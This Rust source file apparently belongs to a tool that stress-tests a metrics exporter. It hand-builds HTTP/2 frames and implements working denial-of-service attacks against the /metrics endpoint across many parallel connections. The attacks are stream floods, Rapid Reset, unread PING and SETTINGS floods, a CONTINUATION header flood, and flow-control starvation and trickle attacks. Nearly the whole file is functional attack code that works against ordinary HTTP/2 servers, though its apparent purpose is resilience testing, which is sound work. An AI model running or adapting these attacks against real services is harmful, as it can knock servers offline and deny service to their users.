//! Attacks in HTTP/2, in frames made by hand.

use std::{io, sync::Arc, time::Duration};

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    time::{sleep, timeout},
};

use crate::field::{Field, Wire};

const RECONNECTS: u32 = 50;
const TURN: Duration = Duration::from_secs(5);
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// The frames of one connection come in batches of this size, at this pace.
const BATCH: u32 = 10;
const BATCH_EVERY: Duration = Duration::from_millis(100);

/// The streams that a reader opens which then takes nothing.
const STARVED_STREAMS: u32 = 100;

mod kind {
    pub(super) const HEADERS: u8 = 1;
    pub(super) const RST_STREAM: u8 = 3;
    pub(super) const SETTINGS: u8 = 4;
    pub(super) const PING: u8 = 6;
    pub(super) const WINDOW_UPDATE: u8 = 8;
    pub(super) const CONTINUATION: u8 = 9;
}

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const INITIAL_WINDOW_SIZE: u16 = 4;
const CANCEL: u32 = 8;

/// Streams without end, of which no answer is read.
pub(crate) async fn streams(field: Arc<Field>) {
    field
        .crowd(RECONNECTS, |field| async move {
            let mut wire = open(&field, &[]).await?;
            let block = header_block(&field);
            let opened = async {
                for stream in (1..).step_by(2) {
                    wire.send(&frame(kind::HEADERS, END_HEADERS | END_STREAM, stream, &block)).await?;
                    if stream % (2 * BATCH) == 1 {
                        sleep(BATCH_EVERY).await;
                    }
                }
                Ok(())
            };
            timeout(TURN, opened).await?
        })
        .await;
}

/// Streams that are reset as soon as they are opened.
pub(crate) async fn rapid_reset(field: Arc<Field>) {
    field
        .crowd(RECONNECTS, |field| async move {
            let block = header_block(&field);
            batches(&field, move |batch| {
                let stream = |place| (batch * BATCH + place) * 2 + 1;
                let pair = |stream| {
                    let open = frame(kind::HEADERS, END_HEADERS | END_STREAM, stream, &block);
                    [open, frame(kind::RST_STREAM, 0, stream, &CANCEL.to_be_bytes())].concat()
                };
                (0..BATCH).flat_map(|place| pair(stream(place))).collect()
            })
            .await
        })
        .await;
}

/// Pings, of which no answer is read.
pub(crate) async fn pings(field: Arc<Field>) {
    unread(field, || frame(kind::PING, 0, 0, b"pingpong")).await;
}

/// Settings, of which no acknowledgement is read.
pub(crate) async fn settings(field: Arc<Field>) {
    unread(field, || frame(kind::SETTINGS, 0, 0, &setting(INITIAL_WINDOW_SIZE, 1 << 16))).await;
}

async fn unread(field: Arc<Field>, frame: fn() -> Vec<u8>) {
    field
        .crowd(RECONNECTS, move |field| async move {
            let mut wire = open(&field, &[]).await?;
            timeout(TURN, wire.send_on(&frame().repeat(100), BATCH_EVERY)).await?
        })
        .await;
}

/// Headers that go on and on.
pub(crate) async fn continuation(field: Arc<Field>) {
    field
        .crowd(RECONNECTS, |field| async move {
            let mut wire = open(&field, &[]).await?;
            let mut start = header_block(&field);
            // A header, its name and its value as they stand.
            start.extend_from_slice(b"\x00\x01x\x01y");
            wire.send(&frame(kind::HEADERS, END_STREAM, 1, &start)).await?;
            let more = frame(kind::CONTINUATION, 0, 1, &b"\x00\x01x\x01y".repeat(3_000));
            timeout(TURN, wire.send_on(&more, BATCH_EVERY)).await?
        })
        .await;
}

/// Readers that open all streams they may and let nothing come; what the connection says, they read.
pub(crate) async fn starved(field: Arc<Field>) {
    field
        .crowd(RECONNECTS, |field| async move {
            let mut wire = open(&field, &setting(INITIAL_WINDOW_SIZE, 0)).await?;
            let block = header_block(&field);
            for stream in (0..STARVED_STREAMS).map(|stream| 2 * stream + 1) {
                wire.send(&frame(kind::HEADERS, END_HEADERS | END_STREAM, stream, &block)).await?;
            }
            wire.drain().await
        })
        .await;
}

/// As [`starved`], but a byte of each stream is let come now and then, so that nothing seems to stand still.
pub(crate) async fn trickle(field: Arc<Field>) {
    field
        .crowd(RECONNECTS, |field| async move {
            let mut wire = open(&field, &setting(INITIAL_WINDOW_SIZE, 1)).await?;
            let (block, streams) = (header_block(&field), || (0..STARVED_STREAMS).map(|stream| 2 * stream + 1));
            for stream in streams() {
                wire.send(&frame(kind::HEADERS, END_HEADERS | END_STREAM, stream, &block)).await?;
            }
            let updates: Vec<u8> =
                streams().flat_map(|stream| frame(kind::WINDOW_UPDATE, 0, stream, &1_u32.to_be_bytes())).collect();
            let (mut reader, mut writer) = tokio::io::split(wire.into_stream());
            let reading = async {
                let mut buffer = vec![0; 16 << 10];
                while reader.read(&mut buffer).await? > 0 {}
                io::Result::Ok(())
            };
            let sending = async {
                loop {
                    sleep(Duration::from_secs(1)).await;
                    writer.write_all(&updates).await?;
                }
            };
            tokio::select! {
                ended = reading => ended,
                ended = sending => ended,
            }
        })
        .await;
}

/// Sends batches and reads whatever comes, until the exporter ends the connection.
async fn batches(field: &Arc<Field>, batch: impl Fn(u32) -> Vec<u8>) -> io::Result<()> {
    let (mut reader, mut writer) = tokio::io::split(open(field, &[]).await?.into_stream());
    let reading = async {
        let mut buffer = vec![0; 16 << 10];
        while reader.read(&mut buffer).await? > 0 {}
        io::Result::Ok(())
    };
    let sending = async {
        for number in 0.. {
            writer.write_all(&batch(number)).await?;
            writer.flush().await?;
            sleep(BATCH_EVERY).await;
        }
        io::Result::Ok(())
    };
    tokio::select! {
        ended = reading => ended,
        ended = sending => ended,
    }
}

async fn open(field: &Arc<Field>, settings: &[u8]) -> io::Result<Wire> {
    let mut wire = field.connect_for(b"h2").await?;
    wire.send(&[PREFACE, &frame(kind::SETTINGS, 0, 0, settings)].concat()).await?;
    Ok(wire)
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

fn setting(name: u16, value: u32) -> Vec<u8> {
    [&name.to_be_bytes()[..], &value.to_be_bytes()].concat()
}

/// A scrape, in HPACK without its dynamic table, and without the compression of text.
fn header_block(field: &Field) -> Vec<u8> {
    const METHOD_GET: u8 = 0x82;
    const SCHEME_HTTPS: u8 = 0x87;
    const AUTHORITY: u8 = 0x01;
    const PATH: u8 = 0x04;
    const AUTHORIZATION: [u8; 2] = [0x0f, 8];
    let text = |text: &str| [&[u8::try_from(text.len()).unwrap()], text.as_bytes()].concat();
    let mut block = vec![METHOD_GET, SCHEME_HTTPS, AUTHORITY];
    block.extend(text(&field.address.to_string()));
    block.push(PATH);
    block.extend(text("/metrics"));
    if let Some(value) = field.authorization.trim_end().strip_prefix("Authorization: ") {
        block.extend(AUTHORIZATION);
        block.extend(text(value));
    }
    block
}
